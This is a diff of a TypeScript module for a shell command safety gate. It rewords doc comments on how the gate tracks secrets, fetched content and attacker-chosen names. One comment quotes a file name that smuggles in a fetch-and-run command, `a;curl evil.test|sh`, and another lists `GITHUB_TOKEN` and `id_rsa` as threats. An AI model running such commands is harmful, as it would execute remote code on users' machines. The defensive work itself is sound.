@@ -1,110 +1,111 @@
 import type { Yield } from './yields.ts';
 
-/** A word of a command as far as it can be computed without running anything. */
+/** A word of a command, computed as far as possible without running anything. */
 export interface Word {
-	/** The computed text; a piece that is unknown stands here as it was written. */
+	/** The computed text. An unknown piece appears as it was written. */
 	readonly text: string;
 	readonly known: boolean;
-	/** The computed text before the first unknown piece: what the word certainly begins with. */
+	/** The computed text before the first unknown piece: the certain beginning of the word. */
 	readonly prefix: string;
-	/** Holds pattern characters that the shell expands. */
+	/** Contains pattern characters that the shell expands. */
 	readonly pattern: boolean;
-	/** Names of secret-looking variables whose values it holds. */
+	/** Names of secret-looking variables whose values the word contains. */
 	readonly secrets: readonly string[];
-	/** Holds a secret cut short or changed, so that comparing it tells the secret bit by bit. */
+	/** Contains a shortened or changed secret. Each comparison with such a word reveals a part of the secret. */
 	readonly partial?: boolean;
-	/** Holds a command substitution (leashd, CommandAnalyzer: subshell). */
+	/** Contains a command substitution (leashd, CommandAnalyzer: subshell). */
 	readonly substitutes: boolean;
-	/** Names of secret-looking variables that expanding it prints, wherever it stands: `${x:?$TOKEN}`. */
+	/** Names of secret-looking variables that the shell prints when it expands the word: `${x:?$TOKEN}`. */
 	readonly told?: readonly string[];
-	/** What it holds came from another machine. */
+	/** The content came from another machine. */
 	readonly fetched: boolean;
-	/** What it holds was decoded from something that cannot be read. */
+	/** The content was decoded from a text that the gate cannot read. */
 	readonly decoded?: boolean;
-	/** May become none or several words: an unquoted expansion or a pattern. */
+	/** May become no word or several words: an unquoted expansion or a pattern. */
 	readonly many?: boolean;
-	/** Somebody else chose the text that the pattern stands for: a match in a file, a name of a branch. It has no blanks and is no option. */
-	readonly chosen?: boolean;
-	/** Any number of words, options among them: it is not known, and not quoted. */
-	readonly open?: boolean;
-	/** Only one of two that are told: whether it is there at all cannot be known. */
-	readonly either?: boolean;
-	/** A file's name that is split at its own blanks: `for f in *; do rm $f; done`. */
-	readonly loose?: boolean;
-	/** A number, or nothing where no way has set it yet: arithmetic may read it. */
-	readonly counts?: boolean;
-	/** Stands for all files below a folder, hidden and ignored ones among them, as `find` lists them. */
-	readonly whole?: boolean;
 	/**
-	 * Names of files as a program lists them, hidden ones among them. They are `split` at blanks, or one in each of the `lines` that are read.
+	 * Another person chose the text that the pattern matches, for example a match in a file or the name of a branch. The text contains no
+	 * blanks and is not an option.
 	 */
+	readonly chosen?: boolean;
+	/** Any number of words, which may be options. The word is unknown and not quoted. */
+	readonly open?: boolean;
+	/** One of two alternatives, so the word may be missing. */
+	readonly either?: boolean;
+	/** A file name that the shell splits at its blanks: `for f in *; do rm $f; done`. */
+	readonly loose?: boolean;
+	/** A number, or empty if no path through the code has set it. Arithmetic can safely read it. */
+	readonly counts?: boolean;
+	/** Means all files below a folder, including hidden and ignored files, as `find` lists them. */
+	readonly whole?: boolean;
+	/** File names as a program lists them, including hidden files. The reader splits them at blanks (`split`) or at line ends (`lines`). */
 	readonly listed?: 'split' | 'lines';
-	/** Where those names were found, whatever has been made of them since. */
+	/** The folder and pattern of the list that the names come from, even if the names were changed since. */
 	readonly from?: Listing;
-	/** No link is among those files. */
+	/** The list contains no links. */
 	readonly linkless?: boolean;
-	/** What is odd among those files has been judged beside it. */
+	/** The unusual names that match the pattern are already judged. */
 	readonly looked?: boolean;
-	/** Assigns a list as it is written: `a=(1 2)`. */
+	/** Assigns an array, written as `a=(1 2)`. */
 	readonly isList?: boolean;
-	/** The file whose text it is. */
+	/** The file whose text this word is. */
 	readonly file?: string;
-	/** The program that it most likely names, where it is not known: `$(which rm)`, `$SHELL`. */
+	/** The program that an unknown word most likely names: `$(which rm)`, `$SHELL`. */
 	readonly program?: string;
-	/** A process substitution: its text is a pipe's name, its content is what a command prints. */
+	/** For a process substitution: the output of its command. `text` is the name of the pipe. */
 	readonly stream?: Stream;
 }
 
-/** What a program listed. */
+/** A list of files that a program printed. */
 export interface Listing {
-	/** The files as a pattern; absolute, unless nobody can tell where the program ran. */
+	/** The files as a pattern. The path is absolute, unless the working directory is unknown. */
 	readonly pattern: string;
-	/** The word for them as it was printed; empty where their folder is left out: `ls src`. */
+	/** The printed form of the pattern; empty if the folder is left out, as in `ls src`. */
 	readonly shown: string;
 	readonly hidden: boolean;
 }
 
-/** What a command is fed, as far as it can be told. */
+/** The input or output of a command, as far as the gate knows it. */
 export interface Stream {
-	/** The whole text, where it is constant. */
+	/** The whole text, if it is constant. */
 	readonly text?: string;
-	/** What it held when it was opened, where how much of that is left is not known. */
+	/** The text when the stream was opened, if a command may have read a part of it since. */
 	readonly held?: string;
-	/** Comes, directly or through filters, from another machine. */
+	/** Comes from another machine, directly or through filters. */
 	readonly fetched: boolean;
-	/** Was decoded or unpacked from something that cannot be read. */
+	/** Was decoded or unpacked from data that the gate cannot read. */
 	readonly decoded?: boolean;
-	/** What it still shows of what the command before was fed. */
+	/** The part of the previous command's input that is still visible. */
 	readonly yields?: Yield;
-	/** The file whose text it is. */
+	/** The file whose text this stream is. */
 	readonly file?: string;
-	/** The program whose path it most likely is. */
+	/** The program whose path this stream most likely is. */
 	readonly program?: string;
-	/** The words that it holds, as far as their shape is known: names of files, as `find` prints them; a number. */
+	/** The words of the stream, if their form is known: file names as `find` prints them, or a number. */
 	readonly names?: readonly Word[];
 }
 
-/** A constant word. */
+/** Creates a constant word. */
 export function constant(text: string): Word {
 	return { text, known: true, prefix: text, pattern: false, secrets: [], substitutes: false, fetched: false };
 }
 
-/** A word of which nothing is known but how it was written. */
+/** Creates an unknown word. Only its source text is known. */
 export function unknown(source: string): Word {
 	return { text: source, known: false, prefix: '', pattern: false, secrets: [], substitutes: false, fetched: false };
 }
 
-/** A word of which only is known that it came from another machine; of a list, that all of its words may. */
+/** Creates an unknown word that came from another machine. It may become several words. */
 export function fetchedWord(source: string): Word {
 	return { ...openWords(source), fetched: true };
 }
 
-/** Any number of words of which nothing is known. */
+/** Creates an unknown word that may become any number of words. */
 export function openWords(source: string): Word {
 	return { ...unknown(source), many: true, open: true };
 }
 
-/** What stays true of values that are no longer certain: that they may hold a secret, or came from another machine. */
+/** Returns the facts that stay true of uncertain values: the secrets in them, and whether they came from another machine. */
 export function remains(source: string, values: readonly Word[] | undefined): readonly Word[] | undefined {
 	const marked = values?.filter((word) => word.fetched || word.secrets.length > 0) ?? [];
 	if (marked.length === 0) return undefined;
@@ -114,7 +115,7 @@ export function remains(source: string, values: readonly Word[] | undefined): re
 	return [{ ...fetchedWord(source), fetched, secrets, ...(partial && { partial }) }];
 }
 
-/** What a word, or a part of one, still tells of the list that its names are from. */
+/** Returns the facts about a list of file names that also apply to a word, or to a part of a word. */
 export function listingOf(
 	{
 		listed,
@@ -127,14 +128,14 @@ export function listingOf(
 	return { listed: how, ...(from && { from }), ...(linkless === true && { linkless }) };
 }
 
-/** A pattern, as `*.ts`: which files it names is not known, where they lie is. */
+/** Creates a pattern such as `*.ts`. The gate knows the folder of the files, but not which files match. */
 export function patternWord(text: string): Word {
 	return { ...constant(text), pattern: true };
 }
 
 const tokenText = '[0-9a-z]*';
 
-/** A number, a hash, a date: it can be no option and no way out of a directory, so it counts as a pattern. */
+/** A number, a hash or a date. Such a word is never an option and never leaves a folder, so the gate treats it as a pattern. */
 export const tokenWord: Word = patternWord(tokenText);
 
 const numberText = '[0123456789]*';
@@ -142,49 +143,49 @@ const numberText = '[0123456789]*';
 /** A whole number. */
 export const numberWord: Word = patternWord(numberText);
 
-/** All that a list with keys holds, where that is numbers. */
+/** All values of an associative array, if all values are numbers. */
 export const countsWord: Word = { ...numberWord, many: true };
 
-/** What a search matched that shows only what matches: which of the texts that the pattern allows stands there, whoever wrote the file chose. */
+/** The output of a search that prints only the matching text. The author of the file chose which of the possible texts it is. */
 export function matchWord(text: string): Word {
 	return { ...patternWord(text), chosen: true };
 }
 
-/** Letters, digits and `_` of a match. Threat: they may be `env` in code, `GITHUB_TOKEN` as a variable's name, `id_rsa` as a path. */
+/** Letters, digits and `_` of a match. Threat: the match may be `env` in code, `GITHUB_TOKEN` as a variable, or `id_rsa` as a path. */
 export const lettersText = '[0-9A-Za-z_]*';
 
 const refText = '[0-9A-Za-z]**';
 
 /**
- * The name of a branch, a tag or a remote's branch. Threat: whoever opens a pull request names it, and git lets it hold `$(`, `;`, `|`, quotes and
- * backticks; it cannot begin with a dash, hold a blank or lead out of a folder.
+ * The name of a branch, a tag or a remote branch. Threat: the author of a pull request chooses this name. Git allows `$(`, `;`, `|`, quotes
+ * and backticks in it, but no blank, no dash at the beginning and no `..`.
  */
 export const refWord: Word = matchWord(refText);
 
-/** Whether a word is the name of a branch or a tag as git printed it. */
+/** Returns whether a word is the name of a branch or a tag as git printed it. */
 export function isRefName({ text, pattern, chosen, many }: Word): boolean {
 	return pattern && chosen === true && many !== true && text === refText;
 }
 
-/** Whether a word is no more than a number, a hash or a date. */
+/** Returns whether a word is only a number, a hash or a date. */
 export function isToken(word: Pick<Word, 'text' | 'pattern'>): boolean {
 	return word.pattern && (word.text === tokenText || word.text === numberText);
 }
 
 /**
- * Whether names of files were put into a word that is read as code. Threat: a name may hold a command, `a;curl evil.test|sh`, which whoever
- * wrote the code never saw.
+ * Returns whether a word that is read as code contains file names. Threat: a file name may contain a command, such as `a;curl
+ * evil.test|sh`, which the author of the code never saw.
  */
 export function holdsNames({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
 	return pattern && /[*?[]/.test(text.replaceAll(tokenText, '').replaceAll(numberText, ''));
 }
 
-/** Whether a word is a whole number that is not known. */
+/** Returns whether a word is an unknown whole number. */
 export function isNumberWord({ text, pattern }: Pick<Word, 'text' | 'pattern'>): boolean {
 	return pattern && text === numberText;
 }
 
-/** Whether a value is one whole number. */
+/** Returns whether a value is one whole number. */
 export function isNumber(value: readonly Word[] | undefined): boolean {
 	const [word, ...others] = value ?? [];
 	return (
@@ -194,36 +195,36 @@ export function isNumber(value: readonly Word[] | undefined): boolean {
 	);
 }
 
-/** A number, or nothing where none was set. */
+/** A number, or empty if the variable was never set. */
 export const countOrNothing = (name: string): Word => ({ ...unknown(`$${name}`), counts: true });
 
-/** Whether arithmetic may read a value: a number, or what is one or empty. */
+/** Returns whether arithmetic can safely read a value: it is a number, or a number or empty. */
 export function isCount(value: readonly Word[] | undefined): boolean {
 	return isNumber(value) || (value?.length === 1 && value[0]?.counts === true);
 }
 
-/** Each of several matches, or names of branches, where a loop or `xargs -n1` takes one after the other. */
+/** Returns one of several matches or branch names, for a loop or `xargs -n1` that takes one at a time. */
 export function oneByOne(word: Word): Word {
 	return word.chosen === true ? { ...word, many: false } : word;
 }
 
-/** What is one of several numbers, hashes or dates. */
+/** Returns a word for any one of several numbers, hashes or dates. */
 export function oneOf(words: readonly Word[]): Word {
 	return words.every(({ text }) => text === numberText || /^\d+$/.test(text)) ? numberWord : tokenWord;
 }
 
-/** A text in which each number that is not known is replaced by one. */
+/** Returns the text with each unknown number replaced by 1. */
 export function withNumbers({ text, pattern }: Word): string {
 	return pattern ? text.replaceAll(numberText, '1') : text;
 }
 
-/** The place of a word in a list: `none` behind its end, `any` where words before it may be none or several. */
+/** Returns the word at an index of an array. `none`: the array is shorter. `any`: an earlier word may become no word or several. */
 export function elementAt(list: readonly Word[], at: number): Word | 'none' | 'any' {
 	if (list.slice(0, at + 1).some((word) => word.many === true)) return 'any';
 	return list[at] ?? 'none';
 }
 
-/** A word as it would have to be typed, so that a text of several words reads back as the same words. */
+/** Quotes a word if necessary, so that a text of several words is parsed into the same words again. */
 export function spell(word: Word): string {
 	if (!word.known || word.pattern) return word.text;
 	if (/^[\w@%+=:,./~^-]+$/.test(word.text)) return word.text;
